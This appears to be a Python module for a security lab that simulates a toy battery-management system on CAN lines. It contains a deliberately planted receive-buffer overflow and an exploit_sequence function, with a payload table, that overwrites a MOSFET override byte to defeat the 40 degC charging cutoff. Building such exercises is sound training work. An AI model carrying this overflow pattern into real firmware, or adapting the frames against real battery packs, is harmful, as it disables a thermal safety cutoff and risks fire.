"""Toy battery-management system reachable over the charge-port CAN lines.

Firmware behaviour being modelled:

* charging MOSFETs open once the pack passes 40 degC (latched);
* a multi-frame receive path copies consecutive-frame data into an 8-byte stack
  buffer, bounded by the sender's declared length instead of the buffer size.
  The byte after the buffer is the MOSFET override register.

Frames use the usual transport layout: first frame ``10 <len> d0..d5``,
consecutive frames ``21..2F`` carrying seven bytes each.
"""
from __future__ import annotations

from dataclasses import dataclass, field, replace

from .errors import InputError

BMS_RX_ID = 0x7E0
CUTOFF_C = 40.0
STAGING_SIZE = 8
_FIRST_FRAME = 0x10
_CF_FIRST, _CF_LAST = 0x21, 0x2F


@dataclass(frozen=True)
class CanFrame:
    id: int
    payload: bytes = b""

    def __post_init__(self):
        object.__setattr__(self, "payload", bytes(self.payload))
        if not 0 <= self.id <= 0x7FF:
            raise InputError(f"CAN id 0x{self.id:x} exceeds 11 bits")
        if len(self.payload) > 8:
            raise InputError("classic CAN carries at most 8 data bytes")

    @property
    def dlc(self) -> int:
        return len(self.payload)

    def to_text(self) -> str:
        return f"{self.id:03X}#{self.payload.hex().upper()}"

    @classmethod
    def from_text(cls, text: str) -> "CanFrame":
        """Parse candump-style ``7E0#1014AABB``."""
        ident, _, data = text.strip().partition("#")
        try:
            return cls(int(ident, 16), bytes.fromhex(data))
        except ValueError as exc:
            raise InputError(f"bad CAN frame {text!r}: {exc}") from None


@dataclass(frozen=True)
class ThermalParams:
    alpha: float
    beta: float = 0.01
    ambient_c: float = 25.0

    def __post_init__(self):
        if not (self.alpha > 0 and self.beta > 0):
            raise InputError("alpha and beta must be positive")

    def equilibrium(self, current: float) -> float:
        return self.ambient_c + self.alpha * current / self.beta

    @classmethod
    def calibrated(cls, target_c: float = 56.47, current: float = 51.0,
                   beta: float = 0.01, ambient_c: float = 25.0) -> "ThermalParams":
        """Choose alpha so a permanently-closed MOSFET settles at ``target_c``."""
        return cls(alpha=beta * (target_c - ambient_c) / current, beta=beta, ambient_c=ambient_c)


@dataclass(frozen=True)
class BmsState:
    temp_c: float = 25.0
    ambient_c: float = 25.0
    mosfet_on: bool = True
    staging: bytes = bytes(STAGING_SIZE)
    declared_len: int = 0
    received_len: int = 0
    mosfet_override: int = 0
    next_seq: int = field(default=0)  # 0 = no transfer open

    @property
    def compromised(self) -> bool:
        return self.mosfet_override != 0


def _write(state: BmsState, data: bytes, expect: int) -> BmsState:
    # memory map: staging[0..7] then the override byte; writes stop at declared_len
    staging = bytearray(state.staging)
    override = state.mosfet_override
    offset = state.received_len
    for b in data:
        if offset >= state.declared_len:
            break
        if offset < STAGING_SIZE:
            staging[offset] = b
        elif offset == STAGING_SIZE:
            override = b
        offset += 1
    done = offset >= state.declared_len
    mosfet_on = state.mosfet_on or override != 0
    return replace(state, staging=bytes(staging), received_len=offset, mosfet_override=override,
                   next_seq=0 if done else expect, mosfet_on=mosfet_on)


def _next(seq: int) -> int:
    return _CF_FIRST if seq == _CF_LAST else seq + 1


def bms_feed(state: BmsState, frame: CanFrame) -> BmsState:
    if frame.id != BMS_RX_ID or not frame.payload:
        return state
    pci = frame.payload[0]
    if pci == _FIRST_FRAME and frame.dlc >= 2:
        opened = replace(state, declared_len=frame.payload[1], received_len=0, next_seq=0)
        if opened.declared_len == 0:
            return opened
        return _write(opened, frame.payload[2:], _CF_FIRST)
    if _CF_FIRST <= pci <= _CF_LAST:
        if state.next_seq == 0:
            return state
        if pci != state.next_seq:
            # sequence error: abort the transfer
            return replace(state, next_seq=0)
        return _write(state, frame.payload[1:], _next(pci))
    return state


def bms_tick(state: BmsState, charging_current: float, dt: float, p: ThermalParams) -> BmsState:
    if not dt > 0:
        raise InputError("dt must be positive")
    heating = p.alpha * charging_current if state.mosfet_on else 0.0
    temp = state.temp_c + (heating - p.beta * (state.temp_c - p.ambient_c)) * dt
    mosfet_on = state.mosfet_on
    if state.mosfet_override:
        mosfet_on = True
    elif temp > CUTOFF_C:
        mosfet_on = False
    return replace(state, temp_c=temp, mosfet_on=mosfet_on)


def exploit_sequence(override: int = 0x5A, declared_len: int = 20) -> list[CanFrame]:
    """Multi-frame transfer that runs past the staging buffer into the override byte."""
    if not declared_len > STAGING_SIZE:
        raise InputError("the exploit needs a declared length past the buffer")
    data = bytearray(range(1, declared_len + 1))
    data[STAGING_SIZE] = override
    frames = [CanFrame(BMS_RX_ID, bytes([_FIRST_FRAME, declared_len]) + data[:6])]
    seq, pos = _CF_FIRST, 6
    while pos < declared_len:
        frames.append(CanFrame(BMS_RX_ID, bytes([seq]) + data[pos:pos + 7]))
        pos += 7
        seq = _next(seq)
    return frames


# TriggerCanPayload(arg) selects from this table
PAYLOADS = {
    0: exploit_sequence(),
    1: [CanFrame(BMS_RX_ID, bytes([_FIRST_FRAME, 4, 0xDE, 0xAD, 0xBE, 0xEF]))],
}
